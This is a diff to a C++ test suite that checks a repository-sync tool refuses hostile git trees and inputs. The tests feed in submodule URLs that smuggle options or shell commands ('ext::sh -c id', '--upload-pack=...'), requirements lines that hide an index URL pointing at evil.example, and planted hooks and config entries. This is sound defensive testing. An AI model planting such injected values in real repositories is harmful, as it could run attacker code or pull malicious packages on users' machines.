@@ -24,7 +24,7 @@ struct HostileWorld : World {
   HostileWorld() : World(World::ready()) {}
 
   std::string blob(std::string_view text) { return *app.repository.write_blob(text); }
-  std::string folder() { return app.repository.write_tree(std::nullopt, {{"inside.py", blob("x")}})->value; }
+  std::string some_folder() { return app.repository.write_tree(std::nullopt, {{"inside.py", blob("x")}})->value; }
   /// The tree as its bytes say, checked by nobody.
   std::string raw_tree(const std::vector<RawEntry>& entries) {
     std::string bytes;
@@ -44,13 +44,13 @@ struct HostileWorld : World {
 
 struct Case {
   std::string title;
-  std::string rule;          ///< of ours that must refuse it; empty = only the transfer can see it
+  std::string rule;          ///< of ours that must refuse it; mode.padded and name.empty need the stored bytes
   std::function<std::string(HostileWorld&)> tree;
 };
 
 Case entry(std::string title, std::string rule, std::string mode, std::string name, std::string content = "x") {
   return {std::move(title), std::move(rule), [mode, name, content](HostileWorld& world) {
-            return world.raw_tree({{mode, name, mode == "40000" ? world.folder() : world.blob(content)}});
+            return world.raw_tree({{mode, name, mode == "40000" ? world.some_folder() : world.blob(content)}});
           }};
 }
 
@@ -60,7 +60,7 @@ std::string with_submodule(HostileWorld& world, const std::string& name, const s
 }
 
 std::string deep(HostileWorld& world) {
-  auto id = world.folder();
+  auto id = world.some_folder();
   for (int level = 0; level < 300; ++level) id = world.raw_tree({{"40000", "d", id}});
   return id;
 }
@@ -76,8 +76,8 @@ std::vector<Case> cases() {
       entry("a slash in a name", "name.slash", "100644", "a/b"),
       {"one name twice", "name.duplicate", [](auto& w) { return w.raw_tree({{"100644", "a", w.blob("1")}, {"100644", "a", w.blob("2")}}); }},
       {"names out of order", "name.order", [](auto& w) { return w.raw_tree({{"100644", "b", w.blob("1")}, {"100644", "a", w.blob("2")}}); }},
-      entry("a zero-padded mode", "", "0100644", "a"),
-      entry(".gitmodules as a link", "mode.link", "120000", ".gitmodules", "elsewhere"),
+      entry("a zero-padded mode", "mode.padded", "0100644", "a"),
+      entry(".gitmodules as a link", "name.gitmodules", "120000", ".gitmodules", "elsewhere"),
       {"a submodule URL that is an option", "name.gitmodules", [](auto& w) { return with_submodule(w, "x", "-u./payload"); }},
       {"a submodule name that leaves its folder", "name.gitmodules", [](auto& w) { return with_submodule(w, "../../x", "https://x/y"); }},
       {"a submodule URL that runs a program", "name.gitmodules", [](auto& w) { return with_submodule(w, "x", "ext::sh -c id"); }},
@@ -92,7 +92,7 @@ std::vector<Case> cases() {
       {"A beside a", "name.clash", [](auto& w) { return w.raw_tree({{"100644", "A", w.blob("1")}, {"100644", "a", w.blob("2")}}); }},
       {"300 folders deep", "path.depth", deep},
       entry("a name of 5000 bytes", "name.length", "100644", std::string(5000, 'n')),
-      entry("an empty name", "", "100644", ""),
+      entry("an empty name", "name.empty", "100644", ""),
   };
 }
 
@@ -106,6 +106,10 @@ TEST(HostileTrees, AllTwentySixAreStoppedBeforeAnythingMoves) {
     const auto synced = world.sync();
     ASSERT_FALSE(synced);
     EXPECT_EQ(synced.error().fault, Fault::Invalid) << text(synced.error());
+    EXPECT_EQ(synced.error().code, "TD0303") << text(synced.error());
+    EXPECT_THAT(synced.error().what, HasSubstr(fmt::format("({})", hostile.rule)));
+    ASSERT_TRUE(synced.error().place) << text(synced.error());
+    EXPECT_THAT(synced.error().place->file, testing::StartsWith("src/"));
     EXPECT_EQ(world.infra.head(), head);
     EXPECT_FALSE(world.infra.ref("refs/tandem/log"));
   }
@@ -114,7 +118,7 @@ TEST(HostileTrees, AllTwentySixAreStoppedBeforeAnythingMoves) {
 TEST(HostileTrees, OurOwnRulesSeeThemWithoutTheTransfersHelp) {
   HostileWorld world;
   for (const auto& hostile : cases()) {
-    if (hostile.rule.empty()) continue;
+    if (hostile.rule == "mode.padded" || hostile.rule == "name.empty") continue;  // libgit2 does not show them
     SCOPED_TRACE(hostile.title);
     EXPECT_THAT(world.rules_for(hostile.tree(world)), Contains(hostile.rule));
   }
@@ -128,6 +132,74 @@ TEST(HostileTrees, TheErrorNamesPathAndRule) {
   EXPECT_EQ(synced.error().code, "TD0303");
   EXPECT_EQ(synced.error().place->file, "src/deep/p");
   EXPECT_THAT(synced.error().what, HasSubstr("src/deep/p is a symbolic link (mode.link)"));
+}
+
+TEST(HostileTrees, AttributesOfTheSourceChangeNothingThatIsCarried) {
+  HostileWorld world;
+  const std::string text = "$Id$\r\none\r\ntwo\n";
+  world.app.commit({{"src/.gitattributes", "* text eol=lf ident export-subst\n*.py filter=evil export-ignore working-tree-encoding=UTF-16\n"},
+                    {".gitattributes", "src export-ignore\nsrc/** export-ignore\n"}, {"src/marked.py", text}});
+  const auto synced = world.sync();
+  ASSERT_TRUE(synced) << tandem::text(synced.error());
+  EXPECT_EQ(world.infra.read("lambda/src/marked.py"), text);
+  const auto source = (*world.app.repository.find(*world.app.repository.tree_of(world.app.head()), "src"))->id;
+  EXPECT_EQ((*world.infra.repository.find(*world.infra.repository.tree_of(world.infra.head()), "lambda/src"))->id, source);
+}
+
+TEST(HostileTrees, LineEndsInRequirementsThatHideALineAreRefused) {
+  for (const auto* lines : {"fastapi==0.110.0\r--index-url=https://evil.example\n", "fastapi==0.110.0 \\\n--extra-index-url https://evil.example\n",
+                            "fastapi==0.110.0\v-e ./evil\n", "fastapi==0.110.0\xC2\x85-r other.txt\n", "fastapi==0.110.0\xE2\x80\xA8git+https://evil.example\n"}) {
+    HostileWorld world;
+    const auto head = world.infra.head();
+    world.app.commit({{"requirements.txt", lines}});
+    const auto synced = world.sync();
+    ASSERT_FALSE(synced) << lines;
+    EXPECT_EQ(synced.error().code, "TD0320") << text(synced.error());
+    EXPECT_EQ(world.infra.head(), head);
+  }
+}
+
+TEST(HostileTrees, HooksOfTheSourceAndItsConfigurationRunNothing) {
+  HostileWorld world;
+  const auto proof = world.folder.path() / "ran";
+  for (const auto* hook : {"post-checkout", "reference-transaction", "pre-push", "post-merge", "pre-auto-gc"})
+    ASSERT_TRUE(replace_file(world.store.repository().path() / "hooks" / hook, fmt::format("#!/bin/sh\ntouch {}\n", proof.string()), 0755));
+  const auto configured = fmt::format("[uploadpack]\n\tpackObjectsHook = touch {0}\n[core]\n\tfsmonitor = touch {0}\n\tsshCommand = touch {0}\n", proof.string());
+  ASSERT_TRUE(replace_file(world.app.repository.path() / "config", *read_file(world.app.repository.path() / "config") + configured));
+  const auto synced = world.sync();
+  ASSERT_TRUE(synced) << text(synced.error());
+  EXPECT_FALSE(std::filesystem::exists(proof));
+}
+
+TEST(HostileTrees, AnUrlCannotBecomeAnOptionOrAProgram) {
+  for (const auto* url : {"--upload-pack=touch /tmp/x", "ext::sh -c id", "fd::17", "http://127.0.0.1:1/x.git"}) {
+    HostileWorld world;
+    auto request = world.request();
+    request.source.url = url;
+    const auto synced = synchronise(request, world.store, world.key);
+    ASSERT_FALSE(synced) << url;
+    EXPECT_TRUE(synced.error().fault == Fault::Invalid || synced.error().fault == Fault::Unavailable) << text(synced.error());
+  }
+}
+
+TEST(HostileTrees, FilesPastTheLimitAreRefused) {
+  HostileWorld world;
+  world.app.commit({{"src/big.bin", std::string((50UL << 20) + 1, 'x')}});
+  const auto synced = world.sync();
+  ASSERT_FALSE(synced);
+  EXPECT_THAT(synced.error().what, HasSubstr("src/big.bin has 52428801 bytes (size.blob)"));
+}
+
+TEST(HostileTrees, HandlersAndMetadataOfTheInfrastructureCannotBeReplaced) {
+  for (const auto* name : {"integrated_api_handler.py", "api_handler.py", "Sync-Metadata.json", "requirements.TXT"}) {
+    HostileWorld world;
+    world.app.commit({{fmt::format("out/{}", name), "x"}});
+    auto request = world.request();
+    request.configuration.components.push_back({fmt::format("out/{}", name), fmt::format("lambda/{}", name)});
+    const auto synced = synchronise(request, world.store, world.key);
+    ASSERT_FALSE(synced) << name;
+    EXPECT_TRUE(synced.error().code == "TD0303" || synced.error().code == "TD0301") << text(synced.error());
+  }
 }
 
 TEST(HostileTrees, AComponentThatIsALinkItselfIsRefused) {
